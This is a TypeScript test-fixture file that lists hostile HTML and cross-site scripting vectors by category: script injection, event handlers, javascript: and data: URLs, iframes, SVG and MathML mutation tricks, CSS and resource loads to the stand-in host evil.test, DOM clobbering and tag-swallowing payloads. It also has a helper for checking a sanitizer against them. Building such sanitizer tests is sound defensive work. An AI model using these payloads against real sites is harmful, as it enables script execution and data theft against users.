// Ways to run a script, or to reach another host, from HTML: by kind, written after what public collections of
// such vectors show. Each calls hacked() or asks evil.test for something if it gets through.

const run = 'hacked()'
const evil = 'https://evil.test'

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src="${evil}/x.js"></script>`,
  `<script type="module">${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<<script>${run}//<</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<template><script>${run}</script></template>`,
  `<xmp><script>${run}</script></xmp>`,
]

const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
]
const handlers = [
  ...events.map((event) => `<img src=x ${event}="${run}">`),
  `<img src=x ONERROR=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror\n=\n"${run}">`,
  `<img """><img src=x onerror="${run}">`,
  `<img src=x:x onerror=&#104;acked()>`,
  `<body onload=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video onloadstart=${run}><source></video>`,
  `<details open ontoggle=${run}>`,
  `<marquee onstart=${run}>`,
  `<p tabindex=1 autofocus onfocus=${run}>x</p>`,
  `<a href="/tricks" onclick="${run}" onmouseover="${run}">x</a>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>`,
  `<p contenteditable autofocus onfocus=${run}>x</p>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  `<iframe onload=${run}></iframe>`,
  `<object onerror=${run} data=x></object>`,
]

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `&#106;avascript:${run}`,
  `&#x6a;&#x61;vascript:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `javascript&colon;${run}`,
  `\u0001javascript:${run}`,
  `javascript://evil.test/%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `blob:${evil}/x`,
  `file:///etc/passwd`,
]
const links = addresses.flatMap((address) => [`<a href="${address}">x</a>`, `<img src="${address}">`])

const frames = [
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="${evil}/"></iframe>`,
  `<iframe src="//evil.test/"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${run}</script>"></iframe>`,
  `<iframe src="https://www.youtube.com.evil.test/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://www.youtube.com@evil.test/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://evil.test/https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://www.youtube.com/redirect?q=${evil}"></iframe>`,
  `<object data="${evil}/x.swf"></object>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="${evil}/x.swf">`,
  `<embed src="javascript:${run}">`,
  `<portal src="${evil}/"></portal>`,
  `<fencedframe src="${evil}/"></fencedframe>`,
]

const foreign = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${evil}/x.js"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"></use></svg>`,
  `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`,
  `<svg><set attributeName="href" to="javascript:${run}"></set></svg>`,
  `<svg><image href="${evil}/x.png"></image></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<svg><title><style><img title="</style><img src=x onerror=${run}>"></title></svg>`,
]

const reaching = [
  `<link rel=stylesheet href="${evil}/x.css">`,
  `<link rel=prefetch href="${evil}/">`,
  `<link rel=preconnect href="${evil}">`,
  `<link rel=import href="${evil}/">`,
  `<style>@import url(${evil}/x.css);</style>`,
  `<style>body{background:url(${evil}/x.png)}</style>`,
  `<p style="background:url(${evil}/x.png)">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p style="behavior:url(${evil}/x.htc)">x</p>`,
  `<p style="-moz-binding:url(${evil}/x.xml#x)">x</p>`,
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="${evil}/">`,
  `<base href="javascript:/a/-${run}//">`,
  `<table background="${evil}/x.png"><tr><td background="${evil}/y.png">x</td></tr></table>`,
  `<video poster="${evil}/x.png" src="${evil}/x.mp4" autoplay></video>`,
  `<audio src="${evil}/x.mp3" autoplay></audio>`,
  `<picture><source srcset="${evil}/x.png"><img src=x></picture>`,
  `<img srcset="${evil}/x.png 1x" src=x>`,
  `<img src=x longdesc="${evil}/" lowsrc="${evil}/y.png">`,
  `<input type=image src="${evil}/x.png">`,
  `<bgsound src="${evil}/x.wav">`,
  `<track src="${evil}/x.vtt">`,
  `<a href="/tricks" ping="${evil}/">x</a>`,
]

const clobbering = [
  `<form action="${evil}/"><button>x</button></form>`,
  `<form><button formaction="javascript:${run}">x</button></form>`,
  `<isindex action="javascript:${run}" type=submit>`,
  `<form id=document><input name=body></form>`,
  `<img name=getElementById src=x>`,
  `<a id=defaultView></a><a id=defaultView name=x href="${evil}/"></a>`,
  `<p id="content" class="fixed inset-0 z-50">x</p>`,
  `<p is="x-evil">x</p><x-evil onclick=${run}>x</x-evil>`,
  `<slot name=x></slot><p slot=x>x</p>`,
  `<map name=x><area shape=default href="javascript:${run}"></map><img usemap=#x src=x>`,
  `<button popovertarget=x onclick=${run}>x</button><p popover id=x onbeforetoggle=${run}>x</p>`,
  `<p data-x="1" aria-label="x" role=alert accesskey=x onclick=${run}>x</p>`,
  `<p/onclick=${run}//>x`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<p>&lt;script&gt;${run}&lt;/script&gt;</p>`,
  `<p title="&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;">x</p>`,
  `<img alt="<script>${run}</script>" src=x>`,
  `<img src=x alt="\`><img src=x onerror=${run}>">`,
  `\u202e<p>${'<b>'.repeat(60)}x</p>`,
  `<div><p><table><tr><td><script>${run}</script></td></tr></table></p></div>`,
  `<p>x\u2028<script>${run}</script></p>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
]

// What takes all that follows it along.
const swallowing = [
  `<script src=//evil.test/x.js>`,
  `<plaintext><script>${run}</script>`,
  `<img src=x onerror=${run}//`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<video src=x onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<frameset><frame src="${evil}/"></frameset>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<math><mtext><mglyph><mi><style></style><img src=x onerror=${run}>`,
]

/** Hostile HTML by kind. */
export const hostileHtml: Record<string, string[]> = {
  scripts,
  handlers,
  links,
  frames,
  'foreign elements': foreign,
  'reaching out': reaching,
  'clobbering and the rest': clobbering,
  'swallowing what follows': swallowing,
}

export const hostileVectors = Object.values(hostileHtml).flat()

/** What shows that a text is whole. */
export const marker = '<h2>After</h2>'

/**
 * Those that leave a heading behind them whole, all in one text with a heading "After", and those that take along
 * whatever follows, which have to stand alone.
 */
export function hostileTexts(sanitize: (html: string) => string) {
  const [stay, alone] = [true, false].map((isWanted) =>
    hostileVectors.filter(
      (vector) => sanitize(`<h2>Before</h2>\n${vector}${marker}`).endsWith(marker) === isWanted,
    ),
  ) as [string[], string[]]
  return { together: ['<h2>Before</h2>', ...stay].join('\n') + marker, alone }
}
